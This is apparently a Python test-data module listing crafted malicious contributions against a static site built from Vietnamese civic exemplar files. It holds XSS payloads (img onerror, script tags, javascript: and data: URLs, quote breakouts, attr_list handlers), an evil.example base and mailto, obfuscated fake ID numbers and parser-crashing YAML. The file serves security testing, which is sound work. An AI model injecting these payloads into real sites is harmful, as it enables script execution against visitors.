"""The hostile pull requests, as data.

Each `Case` is one crafted contribution: front-matter overrides on a valid baseline exemplar (copied
from the sample exemplars), a story addition, extra files (photos), or a change to the project
around the exemplar (`setup`). Every string may carry the placeholder `§`, replaced by the case's
own marker (`zq<nnn>z`), so a payload found in the built site names the case that put it there.

Expected outcome of every case: SAFE (the gate refuses the file, or the payload never reaches any
output in live form). `conftest.py` runs the cases; `test_attacks.py` states the expectations.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

ACTIVE, PRIVATE, CRASH, TRUST, REGISTRY = "active", "private", "crash", "trust", "registry"
CLASSES = (ACTIVE, PRIVATE, CRASH, TRUST, REGISTRY)

# A handler that sets the marker the browser test looks for (and that names the case).
JS = "window.__pwned='§';document.documentElement.dataset.pwned='§'"

# --- the baseline: front matter of exemplars/kv-giao-long/*.md, one field changed per attack ------

BASE_COLLECTIVE: dict[str, Any] = {
    "title": "Khối vận xã Giao Long vận động hiến đất mở đường, hồ sơ thử {n} (§)",
    "kind": "collective",
    "unit": "kv-giao-long",
    "model": "Dân vận khéo trong hiến đất làm đường",
    "categories": ["mui-2", "chan-2"],
    "groups": ["cuu-chien-binh"],
    "fields": ["nong-thon-moi", "xay-dung-he-thong-chinh-tri"],
    "summary": (
        "Không phải cưỡng chế hộ nào, Khối vận xã Giao Long vận động 137 hộ hiến 9.350 m² "
        "đất để mở rộng đường liên ấp; bí quyết là bàn bạc công khai."
    ),
    "period": {"start": "2024-04-15", "end": "2024-10-31"},
    "criteria": [
        {"name": "Số hộ tự nguyện hiến đất", "target": 120, "result": 137, "measure": "hộ"},
        {"name": "Diện tích đất được hiến", "target": 8000, "result": 9350, "measure": "m²"},
    ],
    "recognition": {
        "decision": "34-QĐ/BDVHU",
        "date": "2024-11-22",
        "by": "Ban Dân vận Huyện ủy Châu Thành",
        "form": "Giấy khen",
    },
    "steps": [
        {
            "step": 1,
            "date": "2024-04-20",
            "note": "Khối vận xã phát động, các đoàn thể và Tổ Dân vận ấp đăng ký số hộ vận động.",
        },
        {
            "step": 2,
            "date": "2024-12-05",
            "note": "Giới thiệu cách làm tại hội nghị sơ kết năm 2024 của hệ thống Dân vận huyện.",
        },
    ],
    "nominations": [
        {
            "level": "huyen",
            "date": "2024-11-05",
            "note": "Khối vận xã đề nghị Ban Dân vận Huyện ủy công nhận điển hình.",
        }
    ],
    "media": [
        {
            "outlet": "Đài Phát thanh - Truyền hình Bến Tre",
            "programme": "Dân vận khéo",
            "title": "Giao Long: con đường bắt đầu từ lòng dân",
            "date": "2025-01-14",
            "url": "https://example.vn/dan-van-kheo/2025/01/giao-long-con-duong-tu-long-dan",
        }
    ],
    "contact": {
        "office": "Văn phòng Khối vận xã Giao Long",
        "phone": "0275 3862 105",
        "email": "khoivan.giaolong@example.vn",
    },
}

BASE_INDIVIDUAL: dict[str, Any] = {
    "title": "Nguyễn Thanh Bình – Bí thư Chi bộ ấp gần dân, sát dân, hồ sơ thử {n} (§)",
    "kind": "individual",
    "unit": "kv-giao-long",
    "person": {"name": "Nguyễn Thanh Bình", "position": "Bí thư Chi bộ, Trưởng ấp Giao Thạnh, xã Giao Long"},
    "consent": "2025-09-08",
    "categories": ["chan-1", "mui-1"],
    "fields": ["xay-dung-he-thong-chinh-tri"],
    "summary": (
        "Bí thư Chi bộ ấp Giao Thạnh duy trì buổi “cà phê sáng với dân” mỗi tuần, ghi chép "
        "và trả lời từng kiến nghị của bà con."
    ),
    "recognition": {"decision": "215-QĐ/ĐU", "date": "2025-09-19", "by": "Đảng ủy xã Giao Long", "form": "Giấy khen"},
    "steps": [{"step": 1, "date": "2025-04-10", "note": "Đăng ký phần việc thi đua tại chi bộ ấp."}],
    "contact": {
        "office": "Văn phòng Đảng ủy xã Giao Long",
        "phone": "0275 3862 100",
        "email": "danguy.giaolong@example.vn",
    },
}

STORY = """Tuyến đường liên ấp qua Giao Thạnh, Giao Hòa chỉ rộng 2,5 m, xe chở nông sản không vào được,
mùa mưa lại thường sạt lở. Muốn mở rộng đường thì phải có đất, mà ngân sách xã không có tiền bồi
thường. Khối vận xã xác định đây là việc khó, phù hợp với “Mũi thứ hai” của Kế hoạch 58-KH/BDVHU:
thực hiện dân chủ ở cơ sở gắn với vận động Nhân dân đồng thuận (hồ sơ §).

## Cách làm

- Họp dân từng ấp, công bố phương án, bản vẽ và dự toán; người dân biểu quyết độ rộng mặt đường.
- Cán bộ, đảng viên, hội viên Cựu chiến binh có đất dọc tuyến hiến trước, làm gương.

Sau sáu tháng, 137 hộ tự nguyện hiến 9.350 m² đất, không có khiếu nại. Bài học là “dân biết, dân
bàn” từ đầu chứ không phải khi đã có quyết định.
"""


@dataclass
class Case:
    id: str
    cls: str
    what: str  # one sentence: what the contributor tries
    kind: str = "collective"
    front: dict[str, Any] = field(default_factory=dict)  # key -> value (None removes); dotted keys: "person.name"
    raw: dict[str, str] = field(default_factory=dict)  # key -> raw YAML text for that key's value
    story_add: str = ""  # appended to the baseline story (after a blank line)
    story: str | None = None  # replaces the story entirely
    files: dict[str, Any] = field(default_factory=dict)  # file name (beside the .md) -> image spec
    private: list[str] = field(default_factory=list)  # digit strings that must not be published
    private_text: list[str] = field(default_factory=list)  # text (an address) that must not be published
    needles: list[str] = field(default_factory=list)  # any occurrence in any output = UNSAFE
    alone: bool = False  # needs a project of its own
    setup: str | None = None  # name of a project mutation in conftest.SETUPS
    probe: str | None = None  # name of an extra post-build check in conftest.PROBES
    must_refuse: bool = False  # only a refusal by the check is SAFE
    xlsx: bool = False  # also run `dvk report --format xlsx`
    slug: str | None = None  # file name without .md (default gate-<nnn>)

    # filled in by number()
    n: int = 0

    @property
    def mk(self) -> str:
        return f"zq{self.n:03d}z"


def _mobile(n: int, prefix: str) -> str:
    return prefix + f"{(n * 7919 + 1234567) % 10_000_000:07d}"


def _cccd(n: int) -> str:
    return f"0832{n % 100:02d}{(n * 734591 + 271828) % 1_000_000:06d}"


def _group(d: str, sizes: list[int], sep: str) -> str:
    out, i = [], 0
    for s in sizes:
        out.append(d[i : i + s])
        i += s
    if i < len(d):
        out.append(d[i:])
    return sep.join(out)


FW = str.maketrans("0123456789", "０１２３４５６７８９")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
DEVANAGARI = str.maketrans("0123456789", "०१२३४५६७८९")
VI_WORDS = ["không", "một", "hai", "ba", "bốn", "năm", "sáu", "bảy", "tám", "chín"]

CASES: list[Case] = []


def add(case: Case) -> Case:
    CASES.append(case)
    case.n = len(CASES)
    return case


# =============================================================================================
# Active content
# =============================================================================================
FENCE_TAIL = """{fence}

Đoạn này phải còn là chữ thường (§ fence).
{{: onclick="{js}" tabindex="0" autofocus onfocus="{js}" .cls§ }}
"""


def fence_story(fence: str) -> str:
    return FENCE_TAIL.format(fence=fence, js=JS)


for fid, fkey, fence in [
    ("title", "title", "```"),
    ("summary", "summary", "~~~"),
    ("model", "model", "```"),
    ("criteria-name", "criteria", "~~~"),
    ("caption", "photos", "```"),
    ("step-note", "steps", "```"),
    ("person-name", "person", "~~~"),
]:
    val = f"Mô hình thử §\n{fence}\nphần sau"
    front: dict[str, Any] = {}
    files: dict[str, Any] = {}
    kind = "collective"
    if fkey == "criteria":
        front["criteria"] = [{"name": val, "target": 10, "result": 12, "measure": "hộ"}]
    elif fkey == "photos":
        front["photos"] = [{"file": "anh-§.jpg", "caption": val, "credit": "Khối vận xã"}]
        files["anh-§.jpg"] = "jpeg"
    elif fkey == "steps":
        front["steps"] = [{"step": 1, "date": "2024-04-20", "note": val}]
    elif fkey == "person":
        kind = "individual"
        front["person.name"] = val
    else:
        front[fkey] = val + (" kèm đủ hai mươi ký tự" if fkey == "summary" else "")
    add(
        Case(
            f"fence-{fid}",
            ACTIVE,
            f"a {fence} fence (after a newline) in {fkey} and in the story "
            "reopens live Markdown, then attr_list adds on* handlers",
            kind=kind,
            front=front,
            files=files,
            story_add=fence_story(fence),
        )
    )

add(
    Case(
        "fence-inline-title",
        ACTIVE,
        "a ``` fence inside a one-line title and a closing fence in the story, then attr_list on* handlers",
        front={"title": "Mô hình ``` thử nghiệm §"},
        story_add=fence_story("```"),
    )
)
add(
    Case(
        "attr-list-story",
        ACTIVE,
        "an attr_list `{: onclick }` line under a story paragraph",
        story_add=f'Xem thêm §\n{{: onclick="{JS}" autofocus onfocus="{JS}" }}\n',
    )
)
add(
    Case(
        "attr-list-heading",
        ACTIVE,
        "an attr_list on a story heading `## x {{ onclick }}`",
        story_add=f'## Tiêu đề § {{ #h§ onclick="{JS}" tabindex=0 autofocus onfocus="{JS}" }}\n',
    )
)
add(
    Case(
        "attr-list-class",
        ACTIVE,
        "an attr_list that only adds a class and id (proves attr_list is live)",
        story_add="Đoạn có lớp riêng\n{: .cls§ #id§ }\n",
    )
)
add(
    Case(
        "attr-list-summary",
        ACTIVE,
        "an attr_list `{: onclick }` at the end of the summary",
        front={"summary": f'Tóm tắt điển hình đủ dài để hợp lệ §\n{{: onclick="{JS}" }}'},
    )
)
add(
    Case(
        "superfence-attrs",
        ACTIVE,
        "a fenced code block whose attribute list carries an on* handler",
        story_add=f'```{{ .text onclick="{JS}" }}\nmã §\n```\n',
    )
)
add(
    Case(
        "admonition-summary",
        ACTIVE,
        "admonition syntax in the summary (a literal block)",
        front={"summary": 'Tóm tắt điển hình đủ dài để hợp lệ.\n\n!!! danger "§"\n    Nội dung chèn vào\n'},
    )
)
add(
    Case(
        "details-caption",
        ACTIVE,
        "pymdownx.details syntax `??? note` in a photo caption",
        front={"photos": [{"file": "anh-§.jpg", "caption": 'Ảnh\n\n??? note "§"\n    chèn', "credit": "Khối vận"}]},
        files={"anh-§.jpg": "jpeg"},
    )
)
add(
    Case(
        "admonition-story-html-title",
        ACTIVE,
        "an admonition in the story whose title is raw HTML",
        story_add=f'!!! note "<img src=x onerror={JS}>"\n    Nội dung §\n',
    )
)

for fid, fkey in [
    ("title", "title"),
    ("summary", "summary"),
    ("model", "model"),
    ("caption", "photos"),
    ("credit", "credit"),
    ("person-name", "person.name"),
    ("position", "person.position"),
    ("criteria-name", "criteria"),
    ("measure", "measure"),
    ("media-title", "media"),
    ("media-outlet", "outlet"),
    ("recognition-by", "recognition"),
    ("step-note", "steps"),
    ("nomination-note", "nominations"),
    ("contact-office", "contact"),
]:
    pay = f'<img src=x onerror="{JS}">'
    front = {}
    files = {}
    kind = "collective"
    if fkey in ("title", "model"):
        front[fkey] = f"Mô hình {pay} §"
    elif fkey == "summary":
        front[fkey] = f"Tóm tắt điển hình đủ dài {pay} §"
    elif fkey in ("photos", "credit"):
        cap = f"Ảnh {pay} §" if fkey == "photos" else "Ảnh đường liên ấp §"
        cred = f"Tác giả {pay}" if fkey == "credit" else "Khối vận"
        front["photos"] = [{"file": "anh-§.jpg", "caption": cap, "credit": cred}]
        files["anh-§.jpg"] = "jpeg"
    elif fkey.startswith("person"):
        kind = "individual"
        front[fkey] = f"Nguyễn {pay} §"
    elif fkey == "criteria":
        front["criteria"] = [{"name": f"Tiêu chí {pay} §", "target": 10, "result": 12, "measure": "hộ"}]
    elif fkey == "measure":
        front["criteria"] = [{"name": "Tiêu chí §", "target": 10, "result": 12, "measure": "<svg onload=alert('§')>"}]
    elif fkey in ("media", "outlet"):
        m = dict(BASE_COLLECTIVE["media"][0])
        m["title" if fkey == "media" else "outlet"] = f"Bài {pay} §"
        front["media"] = [m]
    elif fkey == "recognition":
        r = dict(BASE_COLLECTIVE["recognition"])
        r["by"] = f"Ban {pay} §"
        front["recognition"] = r
    elif fkey == "steps":
        front["steps"] = [{"step": 1, "date": "2024-04-20", "note": f"Phát động {pay} §"}]
    elif fkey == "nominations":
        front["nominations"] = [{"level": "huyen", "date": "2024-11-05", "note": f"Đề nghị {pay} §"}]
    elif fkey == "contact":
        front["contact"] = {"office": f"Văn phòng {pay} §", "phone": "0275 3862 105"}
    add(
        Case(
            f"html-{fid}",
            ACTIVE,
            f"raw HTML `<img onerror>` in {fkey} (also reaches the feeds)",
            kind=kind,
            front=front,
            files=files,
        )
    )

add(
    Case(
        "script-title", ACTIVE, "a `<script>` element in the title", front={"title": f"Mô hình <script>{JS}</script> §"}
    )
)
add(
    Case(
        "script-summary-rss",
        ACTIVE,
        "a `<script>` in the summary, which the RSS description carries",
        front={"summary": f"Tóm tắt điển hình <script>{JS}</script> §"},
    )
)
add(
    Case(
        "script-story",
        ACTIVE,
        "a story `<script>`, published verbatim in open data and the story kit",
        story_add=f"<script>{JS}</script>\n",
    )
)
add(
    Case(
        "script-story-mixedcase",
        ACTIVE,
        "a mixed-case, nested `<ScRiPt>` that survives a naive filter",
        story_add=f"<ScRiPt>{JS}</sCrIpT> <scr<script>ipt>{JS}</script>\n",
    )
)
add(
    Case(
        "svg-onload-story",
        ACTIVE,
        "`<svg onload>` in the story",
        story_add=f'<svg/onload="{JS}"><circle r=1 /></svg> §\n',
    )
)
add(
    Case(
        "img-slash-story",
        ACTIVE,
        "`<img/src=x/onerror=…>` (slashes instead of spaces) in the story",
        story_add=f'<img/src=x/onerror="{JS}"> §\n',
    )
)
add(
    Case(
        "iframe-object-embed",
        ACTIVE,
        "`<iframe>`, `<object>`, `<embed>` and `<form>` in the story",
        story_add=(
            f'<iframe src="javascript:{JS}"></iframe> <object data="javascript:{JS}"></object> '
            f'<embed src="javascript:{JS}"> <form action="javascript:{JS}"><button>§</button></form>\n'
        ),
    )
)
add(
    Case(
        "style-base-meta",
        ACTIVE,
        "`<style>`, `<base>` and `<meta http-equiv=refresh>` in the story",
        story_add=(
            '<style>body{background:url(javascript:§)}</style> <base href="https://evil.example/§/"> '
            '<meta http-equiv="refresh" content="0;url=javascript:§">\n'
        ),
    )
)
add(
    Case(
        "details-ontoggle",
        ACTIVE,
        "`<details open ontoggle>` in the story (fires without a click)",
        story_add=f'<details open ontoggle="{JS}"><summary>§</summary>x</details>\n',
    )
)
add(
    Case(
        "comment-breakout",
        ACTIVE,
        "a malformed HTML comment `<!-->` that closes at once, then `<img onerror>`",
        story_add=f'<!--><img src=x onerror="{JS}">--> §\n',
    )
)
add(
    Case(
        "comment-in-attr",
        ACTIVE,
        "a comment inside an attribute value hiding an `<img onerror>`",
        story_add=f'<a title="<!--"><img src=x onerror="{JS}">--></a> §\n',
    )
)
add(
    Case(
        "entity-double-decode-story",
        ACTIVE,
        "an escaped `&lt;img onerror&gt;` in the story (double decoding)",
        story_add=f'&lt;img src=x onerror="{JS}"&gt; §\n',
    )
)
add(
    Case(
        "entity-double-decode-title",
        ACTIVE,
        "an escaped `&lt;img onerror&gt;` in the title (double decoding)",
        front={"title": f'Mô hình &lt;img src=x onerror="{JS}"&gt; §'},
    )
)
add(
    Case(
        "quote-caption",
        ACTIVE,
        "attribute injection by quotes in a caption (alt)",
        front={"photos": [{"file": "anh-§.jpg", "caption": f'Ảnh " onmouseover="{JS}" x=" §', "credit": "Khối vận"}]},
        files={"anh-§.jpg": "jpeg"},
    )
)
add(
    Case(
        "quote-title",
        ACTIVE,
        "attribute injection by single and double quotes in the title (meta content)",
        front={"title": f"Mô hình ' onfocus='{JS}' autofocus ' \" onfocus=\"{JS}\" autofocus \" §"},
    )
)
add(
    Case(
        "media-url-quote",
        ACTIVE,
        "a media URL that passes ^https?:// but breaks out of href with a quote",
        front={
            "media": [
                dict(
                    BASE_COLLECTIVE["media"][0],
                    url=f'https://example.vn/x"onmouseover="{JS.replace(" ", "")}"autofocus="§',
                )
            ]
        },
    )
)
add(
    Case(
        "media-url-javascript",
        ACTIVE,
        "a `javascript:` media URL",
        front={"media": [dict(BASE_COLLECTIVE["media"][0], url=f"javascript:{JS}")]},
    )
)
add(
    Case(
        "email-query",
        ACTIVE,
        "contact.email with a `?cc=…&body=…` query that the mailto link keeps",
        front={"contact": {"office": "Văn phòng", "email": "khoivan@example.vn?cc=attacker%40evil.example&body=§"}},
    )
)
add(
    Case(
        "email-quote",
        ACTIVE,
        "contact.email with quotes that break out of the href",
        front={"contact": {"office": "Văn phòng", "email": f'a"onmouseover="{JS.replace(" ", "")}"@example.vn'}},
    )
)
for lid, url in [
    ("plain", f"javascript:{JS}"),
    ("mixedcase", f"JaVaScRiPt:{JS}"),
    ("entity", f"jav&#x61;script:{JS}"),
    ("entity-colon", f"javascript&colon;{JS}"),
    ("tab", f"java&#9;script:{JS}"),
    ("vbscript", "vbscript:msgbox(§)"),
    ("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§"),
]:
    add(
        Case(
            f"story-link-{lid}",
            ACTIVE,
            f"a story link to a {lid} javascript:/data: URL",
            story_add=f"[Xem chi tiết §]({url})\n",
        )
    )
add(
    Case(
        "story-autolink-js", ACTIVE, "an autolink `<javascript:…>` in the story", story_add="<javascript:alert('§')>\n"
    )
)
add(
    Case(
        "story-raw-a-js",
        ACTIVE,
        "a raw `<a href=javascript:>` in the story",
        story_add=f'<a href="javascript:{JS}">bấm §</a>\n',
    )
)
add(
    Case(
        "story-ref-link-js",
        ACTIVE,
        "a Markdown reference link whose definition is javascript:",
        story_add=f"Xem [hồ sơ §][r1].\n\n[r1]: javascript:{JS.replace(' ', '')}\n",
    )
)
add(
    Case(
        "story-ref-image-js",
        ACTIVE,
        "a Markdown reference image whose definition is javascript:",
        story_add=f"![ảnh §][r2]\n\n[r2]: javascript:{JS.replace(' ', '')}\n",
    )
)
add(
    Case(
        "story-link-title-quote",
        ACTIVE,
        "a link title that breaks out of the title attribute",
        story_add=f'[Xem §](https://example.vn "t\\" onmouseover=\\"{JS}")\n',
    )
)
add(
    Case(
        "jinja-fields",
        ACTIVE,
        "Jinja-like `{{ }}` and `{% %}` in the title, summary and story",
        front={
            "title": "Mô hình {{ '§' ~ 'EVAL' }} {% if true %}§IF{% endif %}",
            "summary": "Tóm tắt điển hình {{ '§' ~ 'EVAL2' }} {{ config.site_name }} {% raw %}",
        },
        story_add="{{ '§' ~ 'EVAL3' }} {% for x in range(3) %}§LOOP{% endfor %} {{ 7*7 }}\n",
        needles=["§EVAL", "§EVAL2", "§EVAL3", "§LOOP§LOOP"],
    )
)
add(
    Case(
        "c1-nel-title-raw",
        ACTIVE,
        "a raw C1 control U+0085 (NEL) in the title, then HTML",
        raw={"title": f'"Mô hình thử \u0085description: <img src=x onerror={JS}> §"'},
    )
)
add(
    Case(
        "c1-nel-title-escaped",
        ACTIVE,
        "an escaped C1 control \\x85 (NEL) in the title: the engine's front matter breaks",
        raw={"title": f'"Mô hình thử\\x85template: main.html\\x85<img src=x onerror={JS}> §"'},
    )
)
add(
    Case("c1-csi-title", ACTIVE, "a C1 control U+009B (CSI) in the title", raw={"title": '"Mô hình thử \\x9b31m đỏ §"'})
)
add(
    Case(
        "nonchar-fffe-title",
        ACTIVE,
        "a noncharacter U+FFFE in the title",
        raw={"title": '"Mô hình thử \\uFFFE nghiệm §"'},
    )
)
add(
    Case(
        "newline-title-frontmatter",
        ACTIVE,
        "a title with a newline and `---` that ends the generated page's front matter",
        front={"title": f'Mô hình §\n---\n<img src=x onerror="{JS}">'},
    )
)
add(
    Case(
        "markdown-link-title",
        ACTIVE,
        "a Markdown link to javascript: in the title and summary",
        front={
            "title": f"Mô hình [bấm §](javascript:{JS.replace(' ', '')})",
            "summary": f"Tóm tắt điển hình [bấm §](javascript:{JS.replace(' ', '')}) đủ dài",
        },
    )
)
add(
    Case(
        "long-fields",
        ACTIVE,
        "every short field at its maximum length, made of HTML-ish characters",
        front={"title": ("<§>" * 40)[:160], "summary": ("<b>§" * 60)[:300], "model": ("\"'&<" * 40)[:160]},
    )
)
add(
    Case(
        "md-in-html-story",
        ACTIVE,
        "an md_in_html `<div markdown>` wrapper with an attr_list inside",
        story_add=f'<div markdown="1" onclick="{JS}">\n\n**§**\n{{: onclick="{JS}" }}\n\n</div>\n',
    )
)


# =============================================================================================
# Private data
# =============================================================================================
def P(cid: str, what: str, text: str, needle: str, kind: str = "collective", where: str = "story", **kw: Any) -> Case:
    front: dict[str, Any] = dict(kw.pop("front", {}))
    story_add = ""
    if where == "story":
        story_add = text + "\n"
    elif where == "position":
        kind = "individual"
        front["person.position"] = text
    elif where == "caption":
        front["photos"] = [{"file": "anh-§.jpg", "caption": text, "credit": "Khối vận"}]
        kw.setdefault("files", {})["anh-§.jpg"] = "jpeg"
    elif where == "summary":
        front["summary"] = text
    elif where == "title":
        front["title"] = text
    elif where == "criteria":
        front["criteria"] = [{"name": text, "target": 10, "result": 12, "measure": "hộ"}]
    elif where == "step":
        front["steps"] = [{"step": 1, "date": "2024-04-20", "note": text}]
    return add(
        Case(cid, PRIVATE, what, kind=kind, front=front, story_add=story_add, private=[needle] if needle else [], **kw)
    )


_n = 100  # private numbers come from their own range so they do not collide with case numbers


def nxt() -> int:
    global _n
    _n += 1
    return _n


# CCCD (12 digits) in many spellings, in both kinds of exemplar
for kind in ("collective", "individual"):
    k = "tt" if kind == "collective" else "cn"
    for cid, fmt in (
        [
            ("plain", lambda d: d),
            ("spaces", lambda d: _group(d, [3, 3, 3, 3], " ")),
            ("dots", lambda d: _group(d, [3, 3, 3, 3], ".")),
            ("dashes", lambda d: _group(d, [4, 4, 4], "-")),
            ("slashes", lambda d: _group(d, [3, 3, 3], "/")),
            ("nbsp", lambda d: _group(d, [3, 3, 3, 3], "\u00a0")),
            ("zwsp", lambda d: "\u200b".join(d)),
            ("fullwidth", lambda d: d.translate(FW)),
        ]
        if kind == "collective"
        else [
            ("plain", lambda d: d),
            ("spaces", lambda d: _group(d, [3, 3, 3, 3], " ")),
            ("zwsp", lambda d: "\u200b".join(d)),
            ("arabic", lambda d: d.translate(ARABIC)),
        ]
    ):
        d = _cccd(nxt())
        P(
            f"cccd-{k}-{cid}",
            f"a 12-digit CCCD written {cid} in the story of a {kind} exemplar",
            f"Ông ấy cung cấp số CCCD {fmt(d)} để làm hồ sơ.",
            d,
            kind=kind,
        )

for cid, fmt in [
    ("devanagari", lambda d: d.translate(DEVANAGARI)),
    ("letter-o", lambda d: d.replace("0", "O")),
    ("entity", lambda d: d.replace("0", "&#48;")),
    ("bold", lambda d: f"{d[:4]}**{d[4:8]}**{d[8:]}"),
    ("comment", lambda d: f"{d[:6]}<!-- ghi chú -->{d[6:]}"),
    ("linebreak", lambda d: f"{d[:6]}\n{d[6:]}"),
]:
    d = _cccd(nxt())
    P(f"cccd-{cid}", f"a CCCD split or disguised by {cid}", f"Căn cước số {fmt(d)} của chủ hộ.", d)
d = _cccd(nxt())
P("cccd-link-url", "a CCCD inside a link URL", f"Xem [hồ sơ](https://example.vn/ho-so/{d}).", d)
d = _cccd(nxt())
P(
    "cccd-link-text",
    "a CCCD as the text of a link",
    f"Xem [{_group(d, [3, 3, 3, 3], ' ')}](https://example.vn/ho-so).",
    d,
)
d = _cccd(nxt())
P("cccd-position", "a CCCD in person.position", f"Trưởng ấp, CCCD {_group(d, [4, 4, 4], ' ')}", d, where="position")
d = _cccd(nxt())
P("cccd-caption", "a CCCD in a photo caption", f"Ảnh chủ hộ, CCCD {d}", d, where="caption")
d = _cccd(nxt())
P("cccd-criteria", "a CCCD in a criteria name", f"Hộ có CCCD {_group(d, [3, 3, 3, 3], '.')}", d, where="criteria")
d = _cccd(nxt())
P(
    "cccd-photo-filename",
    "a CCCD as a photo file name (a real JPEG)",
    "Ảnh hiện trường.",
    d,
    where="none",
    front={"photos": [{"file": f"{d}.jpg", "caption": "Ảnh hiện trường", "credit": "Khối vận"}]},
    files={f"{d}.jpg": "jpeg"},
)

# CMND (9 digits)
for cid, fmt in [
    ("plain", lambda d: d),
    ("dots", lambda d: _group(d, [3, 3, 3], ".")),
    ("spaces-individual", lambda d: _group(d, [3, 3, 3], " ")),
]:
    d = f"32{nxt():03d}{(_n * 9173) % 10000:04d}"
    P(
        f"cmnd-{cid}",
        f"a 9-digit old CMND written {cid}",
        f"Số CMND: {fmt(d)}.",
        d,
        kind="individual" if "individual" in cid else "collective",
    )

# mobiles
for cid, prefix, fmt, kind in [
    ("03x-spaces", "038", lambda d: _group(d, [4, 3, 3], " "), "collective"),
    ("05x-dots", "056", lambda d: _group(d, [4, 3, 3], "."), "individual"),
    ("07x-dashes", "077", lambda d: _group(d, [3, 3, 4], "-"), "collective"),
    ("08x-slashes", "086", lambda d: _group(d, [4, 3, 3], "/"), "individual"),
    ("09x-plain", "091", lambda d: d, "individual"),
    ("plus84-paren", "091", lambda d: "+84 (0) " + _group(d[1:], [3, 3, 3], " "), "collective"),
    ("plus84-compact", "093", lambda d: "+84" + d[1:], "individual"),
    ("nbsp", "097", lambda d: _group(d, [4, 3, 3], "\u00a0"), "collective"),
    ("zwsp", "098", lambda d: "\u200b".join(d), "individual"),
    ("fullwidth", "090", lambda d: d.translate(FW), "collective"),
    ("arabic-indic", "094", lambda d: d.translate(ARABIC), "individual"),
    ("letter-o", "090", lambda d: d.replace("0", "O"), "collective"),
    ("bold", "096", lambda d: f"{d[:4]} **{d[4:7]}** {d[7:]}", "individual"),
    ("entity", "090", lambda d: d.replace("0", "&#48;"), "collective"),
    ("words", "091", lambda d: " ".join(VI_WORDS[int(c)] for c in d), "individual"),
]:
    d = _mobile(nxt(), prefix)
    P(
        f"mobile-{cid}",
        f"a {prefix[:2]}x mobile written {cid} in the story ({kind})",
        f"Liên hệ trực tiếp chị Lan: {fmt(d)}.",
        d[1:],
        kind=kind,
    )
d = _mobile(nxt(), "091")
P("mobile-link-tel", "a mobile in a tel: link", f"Gọi [chị Lan](tel:{d}) khi cần.", d[1:])
d = _mobile(nxt(), "083")
P("mobile-step-note", "a mobile in a step note", f"Liên hệ chị Lan {_group(d, [4, 3, 3], ' ')}", d[1:], where="step")
d = _mobile(nxt(), "035")
P(
    "mobile-summary",
    "a mobile in the summary",
    f"Tóm tắt điển hình; liên hệ anh Bình {_group(d, [4, 3, 3], '.')}",
    d[1:],
    where="summary",
)
d = _mobile(nxt(), "091")
P(
    "mobile-contact-phone",
    "a personal mobile in contact.phone (individual)",
    "",
    d[1:],
    kind="individual",
    where="none",
    front={"contact": {"office": "Văn phòng", "phone": _group(d, [4, 3, 3], " ")}},
)
d = _mobile(nxt(), "079")
P(
    "mobile-contact-phone-plus84",
    "a personal mobile as +84 in contact.phone (collective)",
    "",
    d[1:],
    where="none",
    front={"contact": {"office": "Văn phòng", "phone": "+84 " + _group(d[1:], [3, 3, 3], " ")}},
)

# home addresses
for cid, text, kind in [
    ("ngu-tai", "Ông Bình hiện ngụ tại số 4127 ấp 3, xã Giao Long.", "individual"),
    ("dc", "Đ/c: 4583 đường Nguyễn Đình Chiểu, ấp Giao Hòa.", "collective"),
    ("nha-o", "Chị Lan nhà ở số 7391 hẻm 12 ấp Giao Thạnh.", "individual"),
    ("thuong-tru", "Thường trú: 8846 ấp Phú Hòa, xã Tam Phước.", "individual"),
    ("dia-chi-nha-rieng", "Địa chỉ nhà riêng của ông: 2264 tổ 5, ấp Giao Hòa.", "collective"),
    ("so-nha", "Gia đình ở số nhà 6618, tổ 4, khu phố 2.", "individual"),
]:
    house = next(w for w in text.replace(",", " ").split() if w.isdigit() and len(w) == 4)
    phrase = text[text.index(house) :].split(",")[0].rstrip(".")  # the house number and its street
    P(
        f"address-{cid}",
        f"a home address phrased as “{text.split(':')[0][:22]}…”",
        text,
        "",
        kind=kind,
        private_text=[phrase],
    )
P(
    "address-position",
    "a home address in person.position",
    "Trưởng ấp, ngụ tại số 5523 ấp Giao Thạnh",
    "",
    where="position",
    private_text=["5523 ấp Giao Thạnh"],
)

# =============================================================================================
# Crash or stall
# =============================================================================================
C = lambda cid, what, **kw: add(Case(cid, CRASH, what, alone=True, **kw))  # noqa: E731
C(
    "yaml-deep-flow-seq",
    "a 10,000-deep YAML flow sequence `[[[[…]]]]` in model",
    raw={"model": "[" * 10000 + "]" * 10000},
)
C(
    "yaml-deep-flow-map",
    "a 10,000-deep YAML flow mapping `{a: {a: …}}` in model",
    raw={"model": "{a: " * 10000 + "1" + "}" * 10000},
)
C(
    "yaml-deep-block",
    "a 2,000-deep indented block mapping in model",
    raw={"model": "".join("\n" + "  " * (i + 1) + "a:" for i in range(2000)) + " 1"},
)
C(
    "int-5000-digits",
    "a 5,000-digit integer as criteria target",
    raw={"criteria": "[{name: Số hộ, target: " + "9" * 5000 + ", result: 12, measure: hộ}]"},
)
C(
    "float-1e999",
    "`1.0e+999` (overflows to inf) as criteria target",
    raw={"criteria": "[{name: Số hộ, target: 1.0e+999, result: 12, measure: hộ}]"},
)
C("float-nan", "`.nan` as criteria result", raw={"criteria": "[{name: Số hộ, target: 10, result: .nan, measure: hộ}]"})
C("float-inf", "`.inf` as criteria result", raw={"criteria": "[{name: Số hộ, target: 10, result: .inf, measure: hộ}]"})
C(
    "float-1.7e308",
    "`1.7e308` as result over a tiny target (the percentage overflows)",
    raw={"criteria": "[{name: Số hộ, target: 1.0e-300, result: 1.7e+308, measure: hộ}]"},
)
C(
    "date-1970",
    "recognition date 1970-01-01 (before the ZIP epoch, 1980)",
    front={
        "recognition": dict(BASE_COLLECTIVE["recognition"], date="1970-01-01"),
        "period": {"start": "1969-06-01", "end": "1969-12-31"},
        "steps": None,
        "nominations": None,
    },
)
C(
    "date-1979-individual",
    "an individual exemplar recognised on 1979-12-31 (story kit ZIP)",
    kind="individual",
    front={
        "recognition": dict(BASE_INDIVIDUAL["recognition"], date="1979-12-31"),
        "consent": "1979-12-01",
        "steps": None,
    },
)
for cid, spec, what in [
    ("png-exif-truncated", "png:exif-truncated", "a PNG whose eXIf chunk claims 65,520 IFD entries"),
    ("png-exif-bad-offset", "png:exif-offset", "a PNG whose eXIf IFD offset points far past the chunk"),
    ("webp-exif-truncated", "webp:exif-truncated", "a WebP whose EXIF chunk is a truncated TIFF"),
